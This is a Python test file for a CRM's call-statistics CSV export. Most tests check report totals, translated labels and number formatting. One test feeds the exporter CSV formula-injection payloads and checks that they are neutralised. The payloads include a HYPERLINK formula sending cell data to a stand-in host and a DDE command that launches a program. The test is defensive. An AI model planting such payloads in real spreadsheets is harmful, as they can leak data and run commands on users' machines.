import csv
import io

from crm.stats.csv import csv_filename, report_to_csv
from crm.stats.periods import Interval
from crm.stats.reports import calls_per_agent, calls_per_day, kpi_report
from crm.stats.types import Filters
from tests.stats.history import CFG, DAY1, DAY2, build_history

BOTH = Interval(DAY1, DAY2)


async def test_calls_per_day_as_csv(db: str) -> None:
    await build_history()
    report = await calls_per_day(CFG, BOTH, Filters())
    assert report_to_csv(report) == (
        "Period,Calls,Inbound,Outbound,Answered from the queue,Abandoned,Transferred\r\n"
        "2026-03-28,6,5,1,3,1,1\r\n"
        "2026-03-29,3,3,0,2,1,0\r\n"
        "Total,9,8,1,5,2,1\r\n"
    )
    assert csv_filename(report) == "calls_per_day_2026-03-28_2026-03-29.csv"


async def test_csv_translates_labels_and_formats_numbers(db: str) -> None:
    await build_history()
    report = await calls_per_agent(CFG, BOTH, Filters())
    french = {"Agent": "Agent", "Received": "Reçus", "Total": "Total général"}
    text = report_to_csv(report, lambda s: french.get(s, s))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["Agent", "Reçus"]
    # durations in whole seconds, the unit in the header
    assert rows[1] == ["Alice", "6", "4", "3", "1", "0", "2", "0", "1", "5", "660", "143"]
    assert rows[0][-2:] == ["Talk time (s)", "Average handle time (s)"]
    assert rows[-1][0] == "Total général" and len(rows) == 4
    assert ";" not in text
    kpis = report_to_csv(await kpi_report(CFG, BOTH, Filters(), per="group"), with_totals=False)
    lines = kpis.splitlines()
    assert lines[0].startswith("Group,Queued,Answered from the queue,Abandoned,Short abandons,"
                               "Timed out,Overflowed,Service level (%)")
    assert lines[2].startswith("Support,2,2,0,0,0,0,100.0,20,85,0.0,1.6,300")
    assert len(lines) == 3


def _report_with_text(values: list[object]) -> object:
    from datetime import date

    from crm.stats.types import INT, TEXT, Chart, Column, Report

    return Report(
        name="pauses", title="Pauses", interval=Interval(date(2026, 1, 1), date(2026, 1, 1)),
        filters=Filters(), columns=[Column("reason", "Reason", TEXT), Column("n", "N", INT)],
        rows=[{"reason": value, "n": -3} for value in values], chart=Chart(labels=[], datasets=[]),
    )


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised() -> None:
    """Item 5 of issue 13: a pause reason, agent or group name typed as a formula reaches
    the export as text (prefixed with '), never as a formula; numbers stay numbers."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+33 1 23", "-2+3",
               "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
    text = report_to_csv(_report_with_text([*hostile, "Lunch"]))  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(text)))[1:]
    for (reason, n), value in zip(rows, hostile, strict=False):
        assert reason == "'" + value
        assert n == "-3"
    assert rows[-1] == ["Lunch", "-3"]
